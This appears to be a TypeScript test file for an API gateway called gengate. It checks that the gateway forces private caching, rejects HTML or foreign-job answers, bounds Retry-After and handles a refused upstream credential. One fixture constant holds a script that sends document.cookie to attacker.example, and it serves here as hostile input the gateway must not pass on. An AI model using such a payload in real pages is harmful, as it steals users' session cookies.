// Nothing crosses a tenant boundary on the upstream's word (docs/security.md#what-gengate-trusts): a real upstream that lies (test/
// support/misbehaving-upstream.ts, in front of the simulator) answers HTML, another job's record, cache
// directives and validators, absurd Retry-After values and refusals of gengate's own credential; every
// answer the tenant gets is private whatever the upstream said about caching.
import { randomUUID } from 'node:crypto';
import { beforeEach, describe, expect, test } from 'vitest';
import { MAX_UPSTREAM_RETRY_AFTER_SECONDS } from '../../src/upstream/headers.ts';
import { useGatewayHarness } from '../support/gateway-harness.ts';
import {
  startMisbehavingUpstream,
  type MisbehavingUpstream,
  type UpstreamAnswer,
} from '../support/misbehaving-upstream.ts';
import { waitFor } from '../support/wait-for.ts';

const IMAGES = '/v1/images/generations';
const PRIVATE = { 'cache-control': 'private, no-store', vary: 'Authorization' };
const JSON_TYPE = 'application/json; charset=utf-8';
const HTML = '<html><body><script>fetch("https://attacker.example/"+document.cookie)</script></body></html>';

let upstream: MisbehavingUpstream | undefined;
const harness = useGatewayHarness({
  inFrontOfUpstream: async (simulatorUrl) => (upstream = await startMisbehavingUpstream(simulatorUrl)),
});
function lying(): MisbehavingUpstream {
  if (upstream === undefined) throw new Error('the misbehaving upstream has not started');
  return upstream;
}
beforeEach(() => {
  lying().twist(undefined);
});

type Tenant = 'alpha' | 'beta' | 'gamma';

async function call(method: string, path: string, tenant: Tenant = 'alpha', body?: string) {
  const response = await fetch(`${harness.url}${path}`, {
    method,
    headers: {
      authorization: `Bearer ${harness.keys[tenant]}`,
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
    },
    ...(body === undefined ? {} : { body }),
  });
  return { status: response.status, headers: response.headers, body: await response.json() };
}

async function create(tenant: Tenant = 'alpha'): Promise<string> {
  const requestId = randomUUID();
  const answer = await call('POST', IMAGES, tenant, JSON.stringify({ requestId }));
  expect(answer.status).toBe(200);
  return requestId;
}

function upstreamError(status: number, code: string, message: string) {
  return { status, error: { code, type: 'upstream_error', message } };
}

const NOT_JSON = upstreamError(
  502,
  'upstream_invalid_response',
  'the generation service sent a response that is not JSON',
);
const FOREIGN_RECORD = upstreamError(
  502,
  'upstream_invalid_response',
  'the generation service answered about another request than the one asked for',
);
const CREDENTIAL_REJECTED = upstreamError(
  502,
  'upstream_credential_rejected',
  "the generation service refused this gateway's own credential; your API key is not at fault",
);

async function metricValue(name: string, labels: Record<string, string>): Promise<number | undefined> {
  const metric = await harness.metrics.registry.getSingleMetric(name)?.get();
  return metric?.values.find((value) => Object.entries(labels).every(([key, v]) => value.labels[key] === v))
    ?.value;
}

describe('every answer to a tenant is private, whatever the upstream says about caching', () => {
  const cacheable = (answer: UpstreamAnswer): UpstreamAnswer => ({
    ...answer,
    headers: {
      ...answer.headers,
      'cache-control': 'public, max-age=31536000, immutable',
      etag: '"v1"',
      'last-modified': 'Wed, 21 Oct 2015 07:28:00 GMT',
      expires: 'Thu, 01 Jan 2099 00:00:00 GMT',
    },
  });

  test('a poll the upstream marks public and immutable: private, no-store, no validators', async () => {
    const requestId = await create();
    lying().twist(cacheable);
    const answer = await call('GET', `${IMAGES}/${requestId}`);
    expect(answer.status).toBe(200);
    expect(Object.fromEntries(answer.headers)).toMatchObject({ ...PRIVATE, 'content-type': JSON_TYPE });
    for (const name of ['etag', 'last-modified', 'expires']) expect(answer.headers.has(name)).toBe(false);
  });

  test.each([
    ['a create', 'POST', IMAGES, '{}', 200],
    ['its replay', 'POST', IMAGES, undefined, 200],
    ['usage', 'GET', '/v1/account/usage', undefined, 200],
    ['keys', 'GET', '/v1/account/keys', undefined, 200],
    ['a deprecated alias', 'GET', '/v1/usage', undefined, 200],
    ['an unknown request id', 'GET', `${IMAGES}/${randomUUID()}`, undefined, 404],
    ['a refused body', 'POST', IMAGES, '{"samples":0}', 400],
  ])('%s: private, no-store, Vary: Authorization', async (_name, method, path, body, status) => {
    lying().twist(cacheable);
    const sent = body ?? (method === 'POST' ? JSON.stringify({ requestId: await create() }) : undefined);
    const answer = await call(method, path, 'alpha', sent);
    expect(answer.status).toBe(status);
    expect(answer.headers.get('cache-control')).toBe(PRIVATE['cache-control']);
    expect(answer.headers.get('vary')).toBe(PRIVATE.vary);
    expect(answer.headers.has('etag')).toBe(false);
  });

  test('an answer refused before authentication is private too', async () => {
    const response = await fetch(`${harness.url}/v1/account/usage`, {
      headers: { authorization: 'Bearer nope' },
    });
    expect(response.status).toBe(401);
    expect(response.headers.get('cache-control')).toBe(PRIVATE['cache-control']);
    expect(response.headers.get('vary')).toBe(PRIVATE.vary);
  });
});

describe('only JSON is passed on', () => {
  const html = (answer: UpstreamAnswer): UpstreamAnswer => ({
    ...answer,
    headers: { 'content-type': 'text/html' },
    body: HTML,
  });

  test('an HTML 2xx to a create: 502, logged with what came, never replayed', async () => {
    lying().twist(html, { method: 'POST' });
    const requestId = randomUUID();
    const sent = JSON.stringify({ requestId });
    const answer = await call('POST', IMAGES, 'alpha', sent);
    expect({ status: answer.status, body: answer.body }).toEqual({ status: 502, body: NOT_JSON });
    expect(answer.headers.get('content-type')).toBe(JSON_TYPE);
    expect(answer.headers.has('x-request-id')).toBe(true);
    const logged = harness.logLines
      .map((line) => JSON.parse(line) as { msg: string; received?: unknown })
      .find((line) => line.msg === 'the upstream sent an answer gengate does not pass on');
    expect(logged?.received).toEqual({
      status: 200,
      contentType: 'text/html',
      bytes: Buffer.byteLength(HTML),
      start: HTML.slice(0, 64),
    });
    // The upstream may have taken the submission: the id stays the tenant's, and nothing is replayed.
    lying().twist(undefined);
    const repeat = await call('POST', IMAGES, 'alpha', sent);
    expect(repeat.status).toBe(409);
    expect(repeat.body).toMatchObject({ error: { code: 'request_id_conflict' } });
  });

  test.each([
    ['HTML on a poll', 200, 'text/html', HTML],
    ['JSON declared, HTML sent', 200, 'application/json', HTML],
    ['no content type', 200, undefined, '{"status":200}'],
    ['an HTML error page', 500, 'text/html', HTML],
  ])('%s: 502 upstream_invalid_response', async (_name, status, contentType, body) => {
    const requestId = await create();
    const headers: Record<string, string> = contentType === undefined ? {} : { 'content-type': contentType };
    lying().twist(() => ({ status, headers, body }));
    const answer = await call('GET', `${IMAGES}/${requestId}`);
    expect({ status: answer.status, body: answer.body }).toEqual({ status: 502, body: NOT_JSON });
  });
});

describe("a poll's record must be about the job in the path", () => {
  test("another job's record: 502, and its cost is not billed to the poller", async () => {
    const requestId = await create('gamma');
    const foreign = randomUUID();
    lying().twist((answer) => ({ ...answer, body: answer.body.replace(requestId, foreign) }), {
      method: 'GET',
    });
    const answer = await call('GET', `${IMAGES}/${requestId}`, 'gamma');
    expect({ status: answer.status, body: answer.body }).toEqual({ status: 502, body: FOREIGN_RECORD });
    expect(await metricValue('gengate_usage_reported_cost_usd_total', { tenant: 'gamma' })).toBe(0);
    // The same record, about its own job, is billed: the refusal above was the id's doing.
    lying().twist(undefined);
    const honest = await call('GET', `${IMAGES}/${requestId}`, 'gamma');
    expect(honest.status).toBe(200);
    const { totalCost } = (honest.body as { data: { totalCost: number } }).data;
    expect(totalCost).toBeGreaterThan(0);
    await waitFor('the cost metered', async () => {
      return (await metricValue('gengate_usage_reported_cost_usd_total', { tenant: 'gamma' })) === totalCost;
    });
  });

  test('the id compared as the service compares ids: an upper-case echo is the same job', async () => {
    const requestId = await create();
    lying().twist(
      (answer) => ({ ...answer, body: answer.body.replace(requestId, requestId.toUpperCase()) }),
      {
        method: 'GET',
      },
    );
    expect((await call('GET', `${IMAGES}/${requestId}`)).status).toBe(200);
  });
});

describe('Retry-After: bounded, and only where it means something', () => {
  const absurd =
    (status: number) =>
    (answer: UpstreamAnswer): UpstreamAnswer => ({
      status,
      headers: { ...answer.headers, 'retry-after': '999999999' },
      body:
        status === 200 ? answer.body : JSON.stringify({ status, error: { code: 'busy', message: 'busy' } }),
    });

  test('on a 200: dropped', async () => {
    const requestId = await create();
    lying().twist(absurd(200));
    const answer = await call('GET', `${IMAGES}/${requestId}`);
    expect(answer.status).toBe(200);
    expect(answer.headers.has('retry-after')).toBe(false);
  });

  test('on a 503: cut to the bound', async () => {
    const requestId = await create();
    lying().twist(absurd(503));
    const answer = await call('GET', `${IMAGES}/${requestId}`);
    expect(answer.status).toBe(503);
    expect(answer.headers.get('retry-after')).toBe(String(MAX_UPSTREAM_RETRY_AFTER_SECONDS));
  });

  test('on a 429: upstream_rate_limited, cut to the bound', async () => {
    lying().twist(absurd(429));
    const answer = await call('POST', IMAGES, 'alpha', '{}');
    expect(answer.status).toBe(429);
    expect(answer.body).toMatchObject({ error: { code: 'upstream_rate_limited' } });
    expect(answer.headers.get('retry-after')).toBe(String(MAX_UPSTREAM_RETRY_AFTER_SECONDS));
  });
});

describe("the upstream refusing gengate's own credential is gengate's problem", () => {
  const refused = (status: number) => (): UpstreamAnswer => ({
    status,
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      status,
      error: { code: 'invalid_api_key', type: 'authentication_error', message: 'the API key is not valid' },
    }),
  });

  test.each([401, 403])(
    'its %i: 502 upstream_credential_rejected, counted for the credential',
    async (status) => {
      const before =
        (await metricValue('gengate_upstream_credential_rejections_total', { credential: 'shared' })) ?? 0;
      lying().twist(refused(status));
      const answer = await call('POST', IMAGES, 'alpha', '{}');
      expect({ status: answer.status, body: answer.body }).toEqual({
        status: 502,
        body: CREDENTIAL_REJECTED,
      });
      expect(answer.headers.has('www-authenticate')).toBe(false);
      expect(
        await metricValue('gengate_upstream_credential_rejections_total', { credential: 'shared' }),
      ).toBe(before + 1);
      expect(
        await metricValue('gengate_upstream_credential_rejections_total', { credential: 'research' }),
      ).toBe(0);
      expect(await metricValue('gengate_upstream_credential_rejected', { credential: 'shared' })).toBe(1);
      const logged = harness.logLines
        .map((line) => JSON.parse(line) as Record<string, unknown>)
        .filter((line) => line.credential === 'shared' && line.upstreamStatus === status);
      expect(logged).toHaveLength(1);
      // Accepted again: the credential is no longer marked refused.
      lying().twist(undefined);
      expect((await call('POST', IMAGES, 'alpha', '{}')).status).toBe(200);
      expect(await metricValue('gengate_upstream_credential_rejected', { credential: 'shared' })).toBe(0);
    },
  );
});
